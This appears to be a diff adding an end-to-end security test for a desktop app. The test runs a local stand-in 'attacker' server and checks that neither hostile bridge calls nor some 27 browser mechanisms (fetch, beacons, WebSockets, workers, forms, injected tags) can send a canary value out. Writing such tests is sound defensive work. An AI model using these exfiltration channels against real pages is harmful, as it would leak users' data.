@@ -1,0 +1,178 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { readdir, readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { afterAll, beforeEach, expect } from 'vitest'
+import type { CallName } from '../../../contract/ipc.ts'
+import type { OpenApp } from '../app.ts'
+import { call } from '../call.ts'
+import { test } from '../fixtures.ts'
+import { CANARY, hostileInputs } from './hostile-calls.ts'
+
+/*
+ * A script with the whole bridge, as a fault in the page would give it to an attacker. Its user presses nothing in the
+ * page, and declines every box of main. Nothing may reach the attacker's server, and nothing may be trusted or read.
+ */
+
+let app: OpenApp
+const received: string[] = []
+let attacker: Server
+let server = ''
+
+test.beforeAll(async ({ openSharedApp }) => {
+  attacker = createServer((request, response) => {
+    let text = `${request.method} ${request.url} ${JSON.stringify(request.headers)}`
+    request.on('data', (data) => (text += String(data)))
+    request.on('end', () => received.push(text))
+    response.setHeader('access-control-allow-origin', '*').end('{"accessToken":"x","data":[]}')
+  })
+  attacker.on('connect', (request, socket) => {
+    received.push(`CONNECT ${request.url}`)
+    socket.destroy()
+  })
+  attacker.on('upgrade', (request, socket) => {
+    received.push(`UPGRADE ${request.url}`)
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
+  server = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
+  app = await openSharedApp({ demo: true })
+  await app.page.getByRole('navigation').getByRole('link', { name: 'Settings' }).waitFor()
+  await declineBoxes()
+})
+afterAll(() => void attacker.close())
+beforeEach(() => void (received.length = 0))
+
+/** The user, who declines each box and counts it by its first words. */
+async function declineBoxes(): Promise<void> {
+  await app.page.evaluate(() => {
+    const boxes: string[] = []
+    Object.assign(globalThis, { boxes })
+    const decline = (): void => {
+      for (const box of document.querySelectorAll<HTMLDialogElement>('dialog[data-standin]')) {
+        if (!box.open) continue
+        boxes.push(box.querySelector('h2, label')?.textContent ?? '')
+        box.querySelector('button')?.click()
+      }
+    }
+    new MutationObserver(() => queueMicrotask(decline)).observe(document.body, {
+      childList: true,
+      subtree: true,
+      attributes: true,
+    })
+  })
+}
+const boxes = (): Promise<string[]> =>
+  app.page.evaluate(() => (globalThis as unknown as { boxes: string[] }).boxes.splice(0))
+
+/** Each answer of a call, as the page gets it. */
+const tryCall = (name: CallName, input: unknown): Promise<string> =>
+  app.page.evaluate(
+    async ([channel, message]) => {
+      const { meetkeep } = globalThis as unknown as { meetkeep: { call(...of: unknown[]): Promise<unknown> } }
+      return JSON.stringify(await meetkeep.call(channel, message).catch(String)) ?? ''
+    },
+    [name, input] as const,
+  )
+
+test('no call carries anything out, trusts anything or reads the screen', async () => {
+  await app.page.evaluate(() => {
+    navigator.mediaDevices.getDisplayMedia = () => {
+      Object.assign(globalThis, { wasScreenRead: true })
+      return Promise.reject(new DOMException('Permission denied by user', 'NotAllowedError'))
+    }
+  })
+  const before = await call(app.page, 'settings.get')
+  const inputs = Object.entries(hostileInputs(server)) as [CallName, unknown[] | null][]
+  for (const [name, given] of inputs) for (const input of given ?? []) await tryCall(name, input)
+  // What was stored is used once more.
+  for (const name of ['meetings.onServer', 'recordings.page', 'doctor.examine'] as const)
+    await tryCall(name, hostileInputs(server)[name]?.[0])
+
+  expect(received).toEqual([])
+  const after = await call(app.page, 'settings.get')
+  expect(after.meetingsUrl).toBe(before.meetingsUrl)
+  expect(after.proxy.mode).toBe('system')
+  expect(after.site).toBe(before.site)
+  expect(after.folder).toBe(before.folder)
+  expect(await call(app.page, 'certificates.list')).toEqual([])
+  expect(await app.page.evaluate(() => 'wasScreenRead' in globalThis)).toBe(false)
+  const account = (await call(app.page, 'account.get')).account
+  expect(account?.isDemo).toBe(true)
+  for (const name of await readdir(app.home)) expect(name).not.toContain(CANARY)
+  const stored = JSON.parse(await readFile(join(app.home, 'settings.json'), 'utf8')) as { trusted: unknown }
+  expect(stored.trusted ?? []).toEqual([])
+
+  // Each of these was asked, and declined.
+  const asked = (await boxes()).join('\n')
+  for (const words of ['Sign in to', 'Load meetings from', 'Connect through the proxy', 'Read the screen'])
+    expect(asked).toContain(words)
+})
+
+test('no interface of the browser carries anything out', async () => {
+  const tried = await app.page.evaluate(
+    async ([to, canary]) => {
+      const url = `${to}/${canary}`
+      const attempts: Record<string, () => unknown> = {
+        fetch: () => fetch(url, { mode: 'no-cors' }),
+        keepalive: () => fetch(url, { method: 'POST', keepalive: true, mode: 'no-cors', body: canary }),
+        request: () => {
+          const request = new XMLHttpRequest()
+          request.open('POST', url)
+          request.send(canary)
+        },
+        beacon: () => navigator.sendBeacon(url, canary),
+        socket: () => new WebSocket(url.replace('http', 'ws')),
+        events: () => new EventSource(url),
+        worker: () => new Worker(url),
+        'worker of text': () =>
+          new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`], { type: 'text/javascript' }))),
+        'service worker': () => navigator.serviceWorker.register(url),
+        module: () => import(/* @vite-ignore */ url),
+        font: () => new FontFace('x', `url(${url})`).load(),
+        form: () => {
+          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
+          document.body.append(form)
+          form.submit()
+        },
+        style: () => document.body.style.setProperty('background-image', `url(${url})`),
+        base: () => document.head.append(Object.assign(document.createElement('base'), { href: to })),
+      }
+      const elements: [string, Record<string, string>][] = [
+        ['img', { src: url }],
+        ['script', { src: url }],
+        ['iframe', { src: url }],
+        ['embed', { src: url }],
+        ['object', { data: url }],
+        ['video', { src: url }],
+        ['audio', { src: url }],
+        ['link', { rel: 'stylesheet', href: url }],
+        ['link', { rel: 'prefetch', href: url }],
+        ['link', { rel: 'preload', as: 'image', href: url }],
+        ['link', { rel: 'modulepreload', href: url }],
+        ['link', { rel: 'manifest', href: url }],
+        ['link', { rel: 'icon', href: url }],
+      ]
+      for (const [tag, values] of elements)
+        attempts[`${tag} ${values['rel'] ?? ''}`] = () => {
+          const element = document.createElement(tag)
+          for (const [name, value] of Object.entries(values)) element.setAttribute(name, value)
+          document.body.append(element)
+        }
+      for (const attempt of Object.values(attempts)) {
+        try {
+          // A refused attempt may reject, or never settle.
+          void Promise.resolve(attempt()).catch(() => undefined)
+        } catch {
+          // Refused by an exception.
+        }
+      }
+      // A request that is allowed is made in the order of the attempts, so an own one ends after them.
+      await fetch('./index.html')
+      return Object.keys(attempts).length
+    },
+    [server, CANARY] as const,
+  )
+  expect(tried).toBeGreaterThan(25)
+  expect(received).toEqual([])
+})
